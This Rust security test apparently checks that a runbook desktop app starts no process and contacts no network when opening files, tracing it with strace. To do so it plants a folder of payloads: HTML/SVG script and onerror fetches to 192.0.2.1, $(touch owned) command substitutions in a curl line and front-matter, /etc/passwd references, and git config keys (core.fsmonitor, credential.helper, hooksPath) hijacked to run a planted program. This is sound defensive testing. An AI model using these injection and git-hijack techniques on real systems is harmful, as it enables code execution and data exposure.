//! Opening anything starts no process and asks no network (SECURITY.md): what the system says of the window's processes, by
//! strace, while runbooks of other teams and files that were written to break in are opened.

use std::{
    collections::BTreeSet,
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::Command,
};

use regex::Regex;
use serde_json::json;

use crate::{
    page::{Page, id, until},
    world::{World, desktop, in_a_world},
};

/// The page's own processes.
const HELPERS: [&str; 2] = ["WebKitNetworkProcess", "WebKitWebProcess"];

/// One of so many runbooks of the corpus is opened in each check; `ALLGOOD_OPEN_ALL` opens all of them.
const ONE_OF: usize = 12;

/// What would reach for something as soon as it is shown, if anything did.
const REACHING: &str = r#"---
title: Reaching
env: {LD_PRELOAD: ./owned.so, GIT_SSH_COMMAND: touch owned}
params: {X: {default: "$(touch owned)"}}
---

# Reaching <img src="http://192.0.2.1/title.png">

<script>fetch("http://192.0.2.1/"); window.open("https://example.org")</script>
<img src=x onerror="fetch('http://192.0.2.1/')"><iframe src="http://192.0.2.1/"></iframe>
<svg><image href="http://192.0.2.1/a.svg"/><script href="http://192.0.2.1/a.js"/></svg>
<link rel="stylesheet" href="http://192.0.2.1/a.css"><link rel="dns-prefetch" href="//example.org">
<link rel="preconnect" href="https://example.org"><link rel="prefetch" href="http://192.0.2.1/next">
<style>@import url(http://192.0.2.1/a.css); body { background: url(http://192.0.2.1/b.png) }</style>
<video src="http://192.0.2.1/a.mp4" autoplay poster="http://192.0.2.1/p.png"></video><audio src="http://192.0.2.1/a.ogg" autoplay></audio>
<object data="http://192.0.2.1/a.swf"></object><embed src="http://192.0.2.1/a.pdf"><base href="http://192.0.2.1/">
<meta http-equiv="refresh" content="0; url=http://192.0.2.1/"><form action="http://192.0.2.1/"><input autofocus onfocus="this.form.submit()"></form>
<a ping="http://192.0.2.1/" href="javascript:fetch('http://192.0.2.1/')">x</a>

![remote](http://192.0.2.1/a.png) ![protocol](//example.org/b.png) ![file](file:///etc/passwd) ![named]

[named]: https://example.org/c.png
[[http://192.0.2.1/]] https://example.org/bare <https://example.org/angle> allgood://open/reaching

## Steps

```sh {name=one if="touch owned"}
curl http://192.0.2.1/$(touch owned)
```

```http
GET http://192.0.2.1/
```

- [ ] Look at ![the dashboard](https://example.org/d.png "title")
"#;

/// A folder that reaches out by all that a folder can: its runbooks, its `allgood.toml`, its repository.
fn hostile(folder: &Path) {
    fs::create_dir_all(folder.join("assets")).unwrap();
    fs::write(folder.join("reaching.md"), REACHING).unwrap();
    let deep = format!("# Deep\n\n{}\n\n## Steps\n\n- [ ] x\n", ">".repeat(20_000));
    fs::write(folder.join("deep.md"), deep).unwrap();
    fs::write(folder.join("picture.md"), "# Picture\n\n![svg](assets/a.svg)\n\n## Steps\n\n- [ ] x\n").unwrap();
    let picture = "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://192.0.2.1/x.png'/>\
                   <script>fetch('http://192.0.2.1/')</script></svg>";
    fs::write(folder.join("assets/a.svg"), picture).unwrap();
    let file = "[run]\nshell = \"sh -c 'touch owned'\"\n[environments.prod]\nenv_file = \"/etc/passwd\"\n";
    fs::write(folder.join("allgood.toml"), file).unwrap();
    let program = folder.join("program");
    fs::write(&program, "#!/bin/sh\ntouch owned\ncat\n").unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    let git = |words: &[&str]| {
        let mut command = Command::new("git");
        command.env("GIT_CONFIG_GLOBAL", "/dev/null").arg("-C").arg(folder).args(words);
        assert!(command.output().unwrap().status.success(), "git {words:?}");
    };
    git(&["init", "--quiet"]);
    git(&["add", "."]);
    git(&["-c", "user.name=a", "-c", "user.email=a@example.org", "commit", "--quiet", "-m", "one"]);
    let program = program.display().to_string();
    for key in
        ["core.fsmonitor", "diff.external", "gpg.program", "core.pager", "core.sshCommand", "credential.helper"]
    {
        git(&["config", key, &program]);
    }
    git(&["config", "core.hooksPath", &folder.display().to_string()]);
}

/// The runbooks of a folder, in the order of their paths.
fn runbooks(folder: &Path) -> Vec<PathBuf> {
    let files = walkdir::WalkDir::new(folder).sort_by_file_name().into_iter().flatten();
    files
        .map(walkdir::DirEntry::into_path)
        .filter(|path| path.extension().is_some_and(|ending| ending == "md"))
        .collect()
}

/// Opens the window so that the system notes what its processes start and whom they ask.
async fn traced(world: &mut World) -> Page {
    let script = format!(
        "#!/bin/sh\nexec strace -D -f -qq -s 200 -o \"$HOME/trace\" \
         -e trace=execve,execveat,socket,connect,bind,sendto,sendmsg,sendmmsg '{}' \"$@\"\n",
        desktop().display()
    );
    let program = world.path("bin/traced");
    fs::write(&program, script).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    world.open_program(&program, &[]).await
}

/// The programs that were started, and what was said to or asked of the internet, but by the driver of this test.
fn seen(world: &World) -> (BTreeSet<String>, Vec<String>) {
    let trace = fs::read_to_string(world.path("trace")).unwrap();
    let environment = fs::read(format!("/proc/{}/environ", world.process())).unwrap();
    let environment = String::from_utf8_lossy(&environment);
    let driver =
        environment.split('\0').find_map(|one| one.strip_prefix("WEBKIT_INSPECTOR_SERVER=127.0.0.1:")).unwrap();
    let driver = format!("sin_port=htons({driver}), sin_addr=inet_addr(\"127.0.0.1\")");
    let started = Regex::new(r#"\bexecve(?:at)?\((?:[^"]*)"([^"]*)".* = 0$"#).unwrap();
    let own = desktop();
    let programs = trace.lines().filter_map(|line| Some(PathBuf::from(&started.captures(line)?[1])));
    let programs = programs.filter(|program| *program != own);
    let programs = programs.map(|program| program.file_name().unwrap().to_string_lossy().into_owned()).collect();
    let internet: Vec<&str> = trace.lines().filter(|line| line.contains("AF_INET")).collect();
    // Each socket of the driver is bound or connected to it, once: one more than those is somebody else's.
    let (drivers, others): (Vec<&str>, Vec<&str>) = internet.iter().partition(|line| line.contains(&driver));
    let (sockets, mut others): (Vec<&str>, Vec<&str>) = others.iter().partition(|line| line.contains(" socket("));
    if sockets.len() != drivers.len() {
        others.extend(sockets);
    }
    (programs, others.into_iter().map(str::to_owned).collect())
}

#[test]
fn opening_anything_starts_no_process_and_asks_no_network() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus");
    let corpus = fs::canonicalize(&corpus).expect("the corpus stands beside the project");
    in_a_world(async |world| {
        let folder = world.path("hostile");
        hostile(&folder);
        let page = traced(world).await;
        for folder in [&folder, &corpus] {
            page.ask("library_add", json!({"path": folder})).await.unwrap();
        }
        let one_of = if std::env::var_os("ALLGOOD_OPEN_ALL").is_some() { 1 } else { ONE_OF };
        let books = runbooks(&folder).into_iter().chain(runbooks(&corpus).into_iter().step_by(one_of));
        until("they are found", async || {
            let folders = page.ask("library_folders", json!({})).await.unwrap();
            folders
                .as_array()
                .unwrap()
                .iter()
                .all(|folder| folder["runbooks"].as_u64().is_some_and(|count| count > 0))
        })
        .await;
        let mut opened = 0;
        for book in books {
            for screen in ["library", "start", "edit"] {
                let path = serde_json::to_string(&book).unwrap();
                page.script(&format!("location.hash = '#/{screen}/' + encodeURIComponent({path})")).await;
                page.painted().await;
                let shown = match screen {
                    "library" => format!(".lrow [title={path}]"),
                    "start" => id("start-sheet"),
                    _ => ".cm-content".to_owned(),
                };
                page.wait_for(&shown).await;
            }
            opened += 1;
        }
        for screen in ["runs", "access", "links", "settings", "new", "library"] {
            page.go(&format!("#/{screen}")).await;
        }
        let (programs, internet) = seen(world);
        println!("{opened} runbooks opened");
        assert_eq!(programs, HELPERS.map(str::to_owned).into(), "what was started");
        assert_eq!(internet, Vec::<String>::new(), "what asked the network");
        assert!(!folder.join("owned").exists() && !world.path("owned").exists());

        // The same eyes see what a person starts, and whom a person has asked.
        let link =
            json!({"title": "Here", "address": "http://127.0.0.1:1/", "group": null, "tags": [], "pinned": false});
        page.ask("link_add", link).await.unwrap();
        page.ask("links_check", json!({"links": ["Here"], "values": {}})).await.unwrap();
        assert!(seen(world).1.iter().any(|line| line.contains("htons(1)")), "{:?}", seen(world).1);
        page.ask("link_open", json!({"run": null, "item": null, "url": "https://example.org/"})).await.unwrap();
        until("the link is opened", async || !world.opened_links().is_empty()).await;
        assert!(seen(world).0.contains("xdg-open"), "{:?}", seen(world).0);
    });
}
